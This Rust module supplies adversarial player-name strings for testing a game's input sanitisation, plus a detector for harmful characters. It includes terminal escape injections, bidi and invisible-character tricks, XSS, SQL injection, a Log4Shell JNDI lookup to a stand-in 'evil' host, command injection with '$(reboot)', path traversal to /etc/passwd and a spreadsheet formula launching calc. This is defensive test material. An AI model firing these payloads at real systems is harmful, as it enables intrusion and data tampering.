//! Texts that want to do harm, or only look like it: what people and programs may call themselves and each other.

const KINDS: [&[&str]; 11] =
    [TERMINAL, BIDI, INVISIBLE, MARKS, NO_CHARACTERS, CODE, SPACES, OUR_OWN, SCRIPTS, EMOJI, LOOK_ALIKES];

#[must_use]
pub fn texts() -> Vec<String> {
    KINDS.concat().into_iter().map(String::from).chain(long()).collect()
}

/// One of each kind, for tests that start a program with each.
#[must_use]
pub fn few_texts() -> Vec<String> {
    KINDS.iter().filter_map(|kind| kind.last()).map(|&text| text.to_owned()).collect()
}

const TERMINAL: &[&str] = &[
    "\u{1b}[2J\u{1b}[HEve",
    "\u{1b}[31mEve\u{1b}[0m",
    "Eve\u{1b}[6n",
    "Eve\u{1b}[1A\u{1b}[2KYou won",
    "\u{1b}[?1049hEve\u{1b}[?1000h",
    "\u{1b}]0;Eve\u{7}",
    "\u{1b}]8;;http://evil.example/\u{1b}\\Eve\u{1b}]8;;\u{1b}\\",
    "\u{1b}]52;c;ZXZpbA==\u{7}Eve",
    "\u{1b}P+q544e\u{1b}\\Eve",
    "\u{1b}P1$r0m\u{1b}\\",
    "\u{1b}_Gi=31\u{1b}\\Eve",
    "\u{1b}^Eve\u{1b}\\",
    "\u{1b}XEve\u{1b}\\",
    "\u{1b}cEve",
    "\u{1b}(0Eve",
    "\u{1b}#8",
    "Eve\u{1b}",
    "\u{9b}31mEve",
    "\u{9d}0;Eve\u{9c}",
    "\u{90}q\u{9c}Eve",
    "\u{85}\u{84}\u{8d}Eve",
    "Eve\u{8}\u{8}\u{8}Bob",
    "Eve\rBob",
    "Eve\u{7}\u{7}",
    "Eve\u{7f}\u{7f}",
    "Eve\u{e}\u{f}",
    "\0Eve\0",
    "Eve\u{4}\u{3}\u{1a}\u{11}\u{13}",
];

/// What turns lines around.
const BIDI: &[&str] = &[
    "\u{202e}evE",
    "\u{202d}Eve\u{202c}",
    "\u{2067}Eve\u{2069}",
    "\u{2066}\u{2068}Eve",
    "Eve\u{2069}\u{2069}",
    "\u{200f}Eve\u{200e}",
    "\u{61c}Eve",
    "Eve\u{206a}\u{206f}",
];

const INVISIBLE: &[&str] = &[
    "\u{200b}",
    "E\u{200b}v\u{200c}e\u{200d}\u{feff}\u{2060}",
    "Eve\u{ad}",
    "Eve\u{34f}",
    "\u{115f}\u{1160}",
    "\u{3164}",
    "\u{ffa0}",
    "\u{2800}\u{2800}",
    "\u{17b4}\u{17b5}",
    "\u{180e}Eve\u{180b}",
    "Eve\u{2061}\u{2062}\u{2063}\u{2064}",
    "Eve\u{fe0e}\u{fe0f}\u{e0100}\u{e01ef}",
    "\u{e0045}\u{e0076}\u{e0065}\u{e007f}",
    "\u{fff9}Eve\u{fffa}Bob\u{fffb}\u{fffc}",
    "\u{1d159}\u{1d173}Eve\u{1d17a}",
    "\u{13441}\u{13442}",
    "\u{16fe4}\u{1bca0}",
    "\u{600}12\u{6dd}",
];

/// Marks that climb over other lines, or sit on what others wrote.
const MARKS: &[&str] = &[
    "E\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}v\u{316}\u{317}\u{318}\u{319}\u{31c}e",
    "\u{e2a}\u{e47}\u{e47}\u{e47}\u{e47}\u{e47}\u{e47}\u{e47}\u{e47}\u{e47}\u{e47}",
    "E\u{489}\u{489}\u{489}v\u{20dd}\u{20e0}\u{20e3}e",
    "\u{301}\u{301}Eve",
    "\u{1100}\u{1161}\u{1161}\u{1161}\u{1161}\u{11a8}\u{11a8}\u{11a8}",
    "\u{1161}\u{11a8}Eve",
    "\u{0338}",
    "Eve \u{0338}= Bob",
    "e\u{34f}\u{301}\u{34f}\u{316}\u{34f}\u{301}\u{34f}\u{316}\u{34f}\u{301}",
];

/// Code points of no character that is known.
const NO_CHARACTERS: &[&str] = &[
    "Eve\u{fdd0}\u{fdef}\u{fffe}\u{ffff}",
    "\u{1ffff}\u{10ffff}",
    "\u{e000}\u{f8ff}Eve",
    "\u{f0000}\u{100000}",
    "Eve\u{378}\u{2fe0}\u{1cccc}",
    "Eve\u{fffd}",
];

/// Code in other languages.
const CODE: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><img src=x onerror=a()>",
    "<b>Eve</b>&nbsp;&#8238;",
    "javascript:alert(1)",
    "'; DROP TABLE entry;--",
    "\" OR 1=1 --",
    "\\\",\"mark\":\"X\",\"x\":\"",
    "{\"type\":\"leave\"}",
    "${jndi:ldap://evil/a}",
    "{{7*7}}${7*7}<%=7*7%>",
    "%s%s%n%x{}{0}",
    "$(reboot)`id`;|&&>a<b*?~!#",
    "../../../etc/passwd",
    "C:\\con\\nul",
    "\\u001b[31m\\x1b\\e\\033",
    "=cmd|' /C calc'!A0",
    "NaN",
    "null",
    "undefined",
    "true",
    "0",
    "-1",
    "1e309",
];

const SPACES: &[&str] = &[
    "",
    " ",
    "  Eve  ",
    "Eve     Bob",
    "Eve\nYou won.",
    "Eve\r\nover result=won",
    "Eve\u{2028}Bob\u{2029}",
    "Eve\u{b}\u{c}Bob",
    "\tEve\t",
    "\u{a0}\u{2003}Eve\u{3000}\u{1680}\u{205f}",
    "Eve\u{85}turn who=you",
];

const OUR_OWN: &[&str] = &[
    "Computer",
    "computer (perfect)",
    "You",
    "you",
    "X",
    "O",
    "X is to move",
    "none",
    "None",
    "Guest",
    "them",
    "Eve x=Bob",
    "Eve\" winner=X",
    "a=b",
    "5",
    "> quit",
    "Your turn. You are X.",
    "Eve won: 1-5-9. Bob",
    "match.k3v9d7qpx2ma",
    "-",
    "--help",
    "Hotseat-0000000000000000",
];

const SCRIPTS: &[&str] = &[
    "\u{5e9}\u{5dc}\u{5d5}\u{5dd}",
    "\u{645}\u{62d}\u{645}\u{62f}",
    "\u{639}\u{644}\u{6cc}\u{200c}\u{631}\u{636}\u{627} 5",
    "\u{1000}\u{103b}\u{1031}\u{102c}\u{103a}",
    "\u{928}\u{940}\u{932}\u{915}\u{902}\u{920}",
    "\u{c2a4}\u{bbf8}\u{c2a4}",
    "\u{1112}\u{1161}\u{11ab}\u{1100}\u{1173}\u{11af}",
    "\u{5c71}\u{7530}\u{592a}\u{90ce}",
    "\u{ff76}\u{ff9e}\u{ff77}\u{ff9e}",
    "\u{5c71}\u{5c71}\u{5c71}\u{5c71}\u{5c71}\u{5c71}\u{5c71}\u{5c71}\u{5c71}\u{5c71}\u{5c71}\u{5c71}\u{5c71}\u{5c71}\u{5c71}\u{5c71}\u{5c71}\u{5c71}\u{5c71}\u{5c71}\u{5c71}\u{5c71}\u{5c71}\u{5c71}",
    "\u{fdfd}\u{fdfd}\u{fdfd}",
    "\u{12219}\u{1242b}\u{2e3b}\u{17d8}",
    "Zo\u{eb}",
    "Zoe\u{308}",
    "\u{212b}\u{2126}\u{1e9b}\u{323}",
    "\u{130}stanbul",
    "STRASSE\u{1e9e}",
    "\u{3a3}\u{3a3}\u{3a3}",
];

/// Emoji, most of them put together from several characters.
const EMOJI: &[&str] = &[
    "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{200d}\u{1f466}",
    "\u{1f44d}\u{1f3fd}",
    "\u{1f1e9}\u{1f1ea}\u{1f1eb}",
    "\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
    "\u{2764}\u{fe0f}\u{200d}\u{1f525}",
    "1\u{fe0f}\u{20e3}",
    "\u{1f3fb}",
];

const LOOK_ALIKES: &[&str] = &[
    "\u{421}\u{43e}mput\u{435}r",
    "\u{ff39}\u{ff4f}\u{ff55}",
    "\u{1d417}\u{1d40e}",
    "x\u{ff1d}y",
    "Eve\u{ff1a}\u{2024}\u{ff0f}",
    "\u{2573}\u{25ef}\u{2588}",
    "\u{201c}Eve\u{201d}",
    "\u{276f} quit",
    "\u{b7}\u{2026}",
];

/// What is too much of something: around the most characters that a name may have, and far beyond.
fn long() -> impl Iterator<Item = String> {
    let lengths = [24, 25, 32, 33, 300];
    let of = move |piece: &'static str| lengths.into_iter().map(move |length| piece.repeat(length));
    ["a", "\u{e4}", "\u{200b}", "e\u{301}", "\u{1b}[31m"].into_iter().flat_map(of)
}

/// Whether a character commands a terminal, turns a line around or cannot be seen: written from the threats, not
/// from what cleaning does. A space is none; every other white space is.
#[must_use]
pub fn is_harmful(c: char) -> bool {
    c.is_control()
        || (c.is_whitespace() && c != ' ')
        || matches!(c,
            '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}'
            | '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}'
            | '\u{2800}' | '\u{3164}' | '\u{e000}'..='\u{f8ff}' | '\u{fdd0}'..='\u{fdef}' | '\u{fe00}'..='\u{fe0f}'
            | '\u{feff}' | '\u{ffa0}' | '\u{fff9}'..='\u{fffc}' | '\u{fffe}' | '\u{ffff}' | '\u{1d159}'
            | '\u{1d173}'..='\u{1d17a}' | '\u{e0000}'..='\u{10ffff}')
}
